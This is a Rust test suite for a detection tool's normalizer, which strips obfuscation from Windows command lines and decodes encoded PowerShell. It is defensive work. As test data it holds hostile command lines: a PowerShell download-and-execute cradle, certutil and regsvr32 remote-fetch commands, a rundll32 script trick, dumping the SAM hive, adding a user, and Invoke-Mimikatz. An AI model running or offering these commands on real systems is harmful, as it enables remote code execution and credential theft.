//! The command-line normal form: every step, combined obfuscations, decoded
//! PowerShell, hostile input, and the properties rules rely on (idempotence,
//! whole tokens of a line found by their normalized pattern).

use base64::engine::general_purpose::STANDARD;
use base64::Engine;
use landwatch::normalize::{command_line, pattern, Normalized};
use proptest::prelude::*;

fn n(s: &str) -> String {
    command_line(s).normal
}

fn utf16_b64(s: &str) -> String {
    let bytes: Vec<u8> = s.encode_utf16().flat_map(u16::to_le_bytes).collect();
    STANDARD.encode(bytes)
}

const CRADLE: &str = "IEX (New-Object Net.WebClient).DownloadString('http://x')";

// ---- step by step ----

#[test]
fn step1_invisible_characters_are_removed() {
    for z in [
        '\u{200B}', '\u{200C}', '\u{200D}', '\u{2060}', '\u{FEFF}', '\u{00AD}', '\u{180E}',
    ] {
        assert_eq!(n(&format!("cert{z}util{z} -f")), "certutil -f", "{:?}", z);
    }
    assert_eq!(n("\u{FEFF}whoami"), "whoami");
}

#[test]
fn step2_dash_lookalikes_become_hyphens() {
    for d in [
        '\u{2010}', '\u{2011}', '\u{2012}', '\u{2013}', '\u{2014}', '\u{2015}', '\u{2212}',
        '\u{FE58}', '\u{FE63}', '\u{FF0D}',
    ] {
        assert_eq!(
            n(&format!("certutil {d}urlcache {d}f")),
            "certutil -urlcache -f",
            "{:?}",
            d
        );
    }
}

#[test]
fn step3_carets_are_removed() {
    assert_eq!(n("c^m^d /c w^h^o^a^m^i"), "cmd -c whoami");
    // A doubled caret vanishes too: the form stays a fixed point.
    assert_eq!(n("echo a^^b"), "echo ab");
    assert_eq!(n("^"), "");
    assert_eq!(n("a ^ b"), "a b");
}

#[test]
fn step4_quotes_inside_tokens_are_removed() {
    assert_eq!(n("\"cert\"util"), "certutil");
    assert_eq!(n("c\"md"), "cmd");
    assert_eq!(n("p\"\"owershell"), "powershell");
    assert_eq!(
        n("\"C:\\Program Files\\x.exe\" -a"),
        "\"c:\\program files\\x.exe\" -a"
    );
    assert_eq!(n("\"a\"\"b\""), "ab");
    // Whitespace inside quotes does not split a token, so the quotes go and
    // the words stay apart.
    assert_eq!(n("x\"a b\"y"), "xa by");
    assert_eq!(n("\"unclosed arg"), "unclosed arg");
    // A pair of quotes around a word without a space means nothing to the
    // program that reads it: they go (`"save"` is `save`).
    assert_eq!(n("\"\""), "");
    assert_eq!(n("reg \"save\" hklm\\sam"), "reg save hklm\\sam");
    assert_eq!(n("\"C:\\Windows\\cmd.exe\" /c x"), "c:\\windows\\cmd.exe -c x");
}

#[test]
fn step5_whitespace_is_folded() {
    assert_eq!(n("  net\t\tuser \u{00A0}\u{3000} bob\r\n"), "net user bob");
    assert_eq!(n("\"a  \t b\""), "\"a b\"");
    assert_eq!(n(" \t "), "");
}

#[test]
fn step6_machine_wide_variables_are_expanded() {
    let cases = [
        ("%SystemRoot%", r"c:\windows"),
        ("%windir%", r"c:\windows"),
        ("%WINDIR%", r"c:\windows"),
        ("%SystemDrive%", "c:"),
        ("%ComSpec%", r"c:\windows\system32\cmd.exe"),
        ("%ProgramFiles%", r"c:\program files"),
        ("%ProgramFiles(x86)%", r"c:\program files (x86)"),
        ("%ProgramW6432%", r"c:\program files"),
        ("%CommonProgramFiles%", r"c:\program files\common files"),
        ("%ProgramData%", r"c:\programdata"),
        ("%ALLUSERSPROFILE%", r"c:\programdata"),
        ("%PUBLIC%", r"c:\users\public"),
        ("%HOMEDRIVE%", "c:"),
    ];
    for (var, value) in cases {
        assert_eq!(n(var), value, "{var}");
    }
    assert_eq!(
        n(r"%windir%\system32\reg.exe save"),
        r"c:\windows\system32\reg.exe save"
    );
    assert_eq!(n(r"%SystemDrive%%PUBLIC%"), r"c:c:\users\public");
    // Unknown and user-specific variables stay as written (case folded).
    assert_eq!(
        n("x %UNKNOWN% y %TEMP%\\a.exe"),
        r"x %unknown% y %temp%\a.exe"
    );
    // A '%' that does not open a known name is kept; the scan goes on.
    assert_eq!(n("50% %windir%"), r"50% c:\windows");
    assert_eq!(n("%%windir%%"), r"%c:\windows%");
    // Substrings are not evaluated.
    assert_eq!(n("%COMSPEC:~0,1%"), "%comspec:~0,1%");
    // Carets and quotes go first, so they do not hide a name.
    assert_eq!(
        n("%win^dir% %Com\"Spec%"),
        r"c:\windows c:\windows\system32\cmd.exe"
    );
}

#[test]
fn step7_slash_options_become_dash_options() {
    assert_eq!(n("cmd /c dir"), "cmd -c dir");
    assert_eq!(n("net use /user:bob"), "net use -user:bob");
    assert_eq!(
        n("regsvr32 /s /n /u /i:http://x/y.sct scrobj.dll"),
        "regsvr32 -s -n -u -i:http://x/y.sct scrobj.dll"
    );
    assert_eq!(n("schtasks /create /tn=x"), "schtasks -create -tn=x");
    // Paths are not options.
    assert_eq!(
        n("ls /windows/x /tmp/a.sh /x.y / /:a"),
        "ls /windows/x /tmp/a.sh /x.y / /:a"
    );
    // Only at a word's start.
    assert_eq!(n("http://a/c a/b"), "http://a/c a/b");
    // Words inside a quoted command count: `net user` run by `cmd /c`.
    assert_eq!(
        n("cmd /c \"net user x y /add\""),
        "cmd -c \"net user x y -add\""
    );
    // A quoted word without a space is read as the word: still an option.
    assert_eq!(n("cmd \"/c\" whoami"), "cmd -c whoami");
    assert_eq!(n("net user \"/add\" x"), "net user -add x");
    // The documented limit: a bare Unix directory looks like an option.
    assert_eq!(n("cd /tmp"), "cd -tmp");
}

#[test]
fn step8_case_is_folded_across_unicode() {
    assert_eq!(n("CertUtil -URLCache"), "certutil -urlcache");
    assert_eq!(n("ÄÖÜ ΣΑΣ"), "äöü σασ");
}

// ---- combined obfuscations ----

#[test]
fn caret_powershell_with_an_encoded_cradle() {
    let line = format!("p^o^w^e^r^s^h^e^l^l -e{}{}", ' ', utf16_b64(CRADLE));
    let got = command_line(&line);
    assert!(got.normal.contains("powershell -e"), "{}", got.normal);
    let decoded = got.decoded.expect("decoded");
    assert!(decoded.contains("DownloadString"), "{decoded}");
    assert_eq!(decoded, CRADLE);
}

#[test]
fn examples_from_the_field() {
    assert_eq!(
        n("\"cert\"util -urlcache -f http://a/b c.exe"),
        "certutil -urlcache -f http://a/b c.exe"
    );
    assert_eq!(
        n("%COMSPEC% /c whoami"),
        r"c:\windows\system32\cmd.exe -c whoami"
    );
    assert_eq!(n("cmd.exe /c \"net user\""), "cmd.exe -c \"net user\"");
    assert_eq!(
        n("certutil \u{2013}urlcache \u{2014}split \u{2212}f http://a/b"),
        "certutil -urlcache -split -f http://a/b"
    );
    assert_eq!(n("cert\u{200B}util -f"), "certutil -f");
    assert_eq!(n("net\u{00A0}user\u{00A0}\u{00A0}/add"), "net user -add");
    assert_eq!(
        n("net use \\\\h\\c$ /user:CORP\\adm P@ss"),
        r"net use \\h\c$ -user:corp\adm p@ss"
    );
    assert_eq!(
        n("C^M^D.exe   /C  \"\"c:\\windows\\system32\\c\"ert\"util.exe\" /urlcache\""),
        r"cmd.exe -c c:\windows\system32\certutil.exe -urlcache"
    );
    assert_eq!(
        n("%SystemRoot%\\System32\\rundll32.exe \u{200D}javascript:\"\\..\\mshtml,RunHTMLApplication\""),
        r"c:\windows\system32\rundll32.exe javascript:\..\mshtml,runhtmlapplication"
    );
}

// ---- decoded PowerShell ----

#[test]
fn every_spelling_of_encoded_command_is_decoded() {
    let payload = utf16_b64("Get-Process");
    for opt in [
        "-e",
        "-ec",
        "-en",
        "-enc",
        "-enco",
        "-encodedcommand",
        "-EncodedCommand",
        "/ENC",
        "\u{2013}enc",
        "-^e^n^c",
    ] {
        let got = command_line(&format!("powershell.exe -nop {opt} {payload}"));
        assert_eq!(got.decoded.as_deref(), Some("Get-Process"), "{opt}");
    }
    // Quoted arguments, renamed binaries, missing padding.
    let unpadded = utf16_b64("whoami").trim_end_matches('=').to_string();
    let got = command_line(&format!(
        "C:\\temp\\notps.exe -w hidden -EnC \"{unpadded}\""
    ));
    assert_eq!(got.decoded.as_deref(), Some("whoami"));
    // The base64 keeps its case although the normal form is lowercase.
    assert!(got.normal.ends_with(&format!(" {}", unpadded.to_lowercase())));
}

#[test]
fn several_encoded_commands_are_joined() {
    let line = format!(
        "pwsh -enc {} ; pwsh -ec {}",
        utf16_b64("one"),
        utf16_b64("two")
    );
    assert_eq!(command_line(&line).decoded.as_deref(), Some("one\ntwo"));
}

#[test]
fn utf8_payloads_are_decoded_as_utf8() {
    let line = format!("powershell -enc {}", STANDARD.encode("Invoke-Mimikatz"));
    assert_eq!(
        command_line(&line).decoded.as_deref(),
        Some("Invoke-Mimikatz")
    );
}

#[test]
fn what_is_not_an_encoded_command_is_not_decoded() {
    for line in [
        "powershell -enc !!notbase64!!",
        "powershell -enc",
        "powershell -enc AB",
        "powershell -ex bypass -file a.ps1",
        "findstr -e password x.txt",
        "grep -e hostname",
        "plain line without options",
    ] {
        assert_eq!(command_line(line).decoded, None, "{line}");
    }
    let binary = STANDARD.encode([0u8, 0, 1, 0, 2, 0, 3, 0, 0xff, 0xfe, 0, 0]);
    assert_eq!(
        command_line(&format!("powershell -enc {binary}")).decoded,
        None
    );
    // Not an option: the payload alone.
    assert_eq!(command_line(&utf16_b64(CRADLE)).decoded, None);
}

// ---- hostile input ----

#[test]
fn a_one_megabyte_line_is_normalized() {
    let arg = "A".repeat(1 << 20);
    let got = command_line(&format!("cmd /c echo {arg}"));
    assert_eq!(got.normal.len(), "cmd -c echo ".len() + (1 << 20));
    assert!(got.normal.starts_with("cmd -c echo aaa"));

    let hostile = format!(
        "cmd /c {}",
        "A^\"%/ \u{2013}\u{200B}\t%windir%".repeat(60_000)
    );
    let got = command_line(&hostile);
    assert!(got.normal.starts_with("cmd -c "));
    assert_eq!(n(&got.normal), got.normal);

    let quotes = "\"".repeat(1 << 20);
    assert_eq!(n(&quotes), "");
    let percents = "%".repeat(1 << 20);
    assert_eq!(n(&percents).len(), 1 << 20);
}

#[test]
fn a_payload_over_one_megabyte_is_not_decoded() {
    let big = "QUFB".repeat(300_000); // 1.2 MB of base64 for "AAA..."
    assert_eq!(
        command_line(&format!("powershell -enc {big}")).decoded,
        None
    );
    // Just under the cap, it is.
    let text = "A".repeat(390_000);
    let payload = utf16_b64(&text);
    assert!(payload.len() < 1 << 20);
    assert_eq!(
        command_line(&format!("powershell -enc {payload}")).decoded,
        Some(text)
    );
}

#[test]
fn default_is_empty() {
    assert_eq!(
        Normalized::default(),
        Normalized {
            normal: String::new(),
            decoded: None
        }
    );
    assert_eq!(command_line(""), Normalized::default());
}

// ---- rule patterns ----

#[test]
fn patterns_are_normalized_like_command_lines() {
    assert_eq!(pattern("/c"), "-c");
    assert_eq!(pattern("/user:"), "-user:");
    assert_eq!(pattern(r"\cmd.exe /c"), r"\cmd.exe -c");
    assert_eq!(pattern(" -enc "), " -enc ");
    assert_eq!(pattern("  /ENC\t"), " -enc ");
    assert_eq!(pattern("\u{2013}urlcache"), "-urlcache");
    assert_eq!(pattern("c^e^r^t\"util\""), "certutil");
    assert_eq!(pattern("%SystemRoot%\\System32"), r"c:\windows\system32");
    assert_eq!(pattern("\"net user\""), "\"net user\"");
    assert_eq!(pattern(" "), " ");
    assert_eq!(pattern(""), "");
    let line = n("C:\\Windows\\System32\\cmd.exe /C \"net user x /add\"");
    for p in [r"\cmd.exe /c", "/add", " /c ", "net user"] {
        assert!(line.contains(&pattern(p)), "{p:?} in {line:?}");
    }
}

// ---- properties ----

/// Strings over the characters the steps care about.
fn tricky() -> impl Strategy<Value = String> {
    let atoms = prop::sample::select(vec![
        "^",
        "^^",
        "\"",
        "%",
        "/",
        "-",
        " ",
        "  ",
        "\t",
        "\u{00A0}",
        "\u{3000}",
        "a",
        "z",
        "B",
        "X",
        "\\",
        ":",
        "=",
        ".",
        "x",
        "e",
        "n",
        "c",
        "E",
        "windir",
        "WinDir",
        "comspec",
        "COMSPEC",
        "ProgramFiles",
        "(x86)",
        "systemdrive",
        "\u{2013}",
        "\u{2014}",
        "\u{2212}",
        "\u{FF0D}",
        "\u{200B}",
        "\u{FEFF}",
        "\u{00AD}",
        "İ",
        "Σ",
        "\u{212A}",
        "enc",
        "-e",
        "/c",
        "'",
    ]);
    prop::collection::vec(atoms, 0..32).prop_map(|v| v.concat())
}

/// A line of space-separated tokens over the tricky alphabet, some of them
/// with quotes; and the index of a token with no quote in it.
fn line_and_token() -> impl Strategy<Value = (String, String)> {
    let atoms = prop::sample::select(vec![
        "^",
        "%",
        "/",
        "-",
        "\t",
        "\u{00A0}",
        "a",
        "B",
        "\\",
        ":",
        "=",
        ".",
        "x",
        "e",
        "n",
        "c",
        "windir",
        "COMSPEC",
        "ProgramFiles",
        "(x86)",
        "\u{2013}",
        "\u{200B}",
        "İ",
        "/c",
        "-enc",
        "\"",
    ]);
    let token = prop::collection::vec(atoms, 1..6).prop_map(|v| v.concat());
    let seps = prop::sample::select(vec![" ", "  ", "   "]);
    (
        prop::collection::vec((token, seps), 1..8),
        any::<prop::sample::Index>(),
    )
        .prop_filter_map("a token without quotes", |(parts, pick)| {
            let mut line = String::new();
            for (t, sep) in &parts {
                line.push_str(t);
                line.push_str(sep);
            }
            let clean: Vec<&String> = parts
                .iter()
                .map(|(t, _)| t)
                .filter(|t| !t.contains('"'))
                .collect();
            if clean.is_empty() {
                return None;
            }
            Some((line, pick.get(&clean).to_string()))
        })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 1500, ..ProptestConfig::default() })]

    #[test]
    fn normal_form_is_idempotent(s in tricky()) {
        let once = n(&s);
        prop_assert_eq!(n(&once), once.clone(), "input {:?}", s);
    }

    #[test]
    fn normal_form_is_idempotent_on_any_string(s in any::<String>()) {
        let once = n(&s);
        prop_assert_eq!(n(&once), once);
    }

    #[test]
    fn pattern_normalization_is_idempotent(s in tricky()) {
        let once = pattern(&s);
        prop_assert_eq!(pattern(&once), once.clone(), "input {:?}", s);
    }

    #[test]
    fn pattern_normalization_is_idempotent_on_any_string(s in any::<String>()) {
        let once = pattern(&s);
        prop_assert_eq!(pattern(&once), once);
    }

    #[test]
    fn whole_tokens_are_found_in_the_normal_form((line, token) in line_and_token()) {
        let normal = n(&line);
        let p = pattern(&token);
        prop_assert!(normal.contains(p.trim()), "{:?} ({:?}) not in {:?} ({:?})", p, token, normal, line);
    }

    #[test]
    fn decoding_never_panics_and_round_trips(text in "[ -~]{1,60}", opt in prop::sample::select(vec!["-e", "-ec", "-enc", "/EncodedCommand"])) {
        let line = format!("powershell {opt} {}", utf16_b64(&text));
        prop_assert_eq!(command_line(&line).decoded, Some(text));
    }

    #[test]
    fn arbitrary_encoded_arguments_never_panic(arg in "[A-Za-z0-9+/=\"']{0,64}") {
        let _ = command_line(&format!("powershell -enc {arg}"));
    }
}
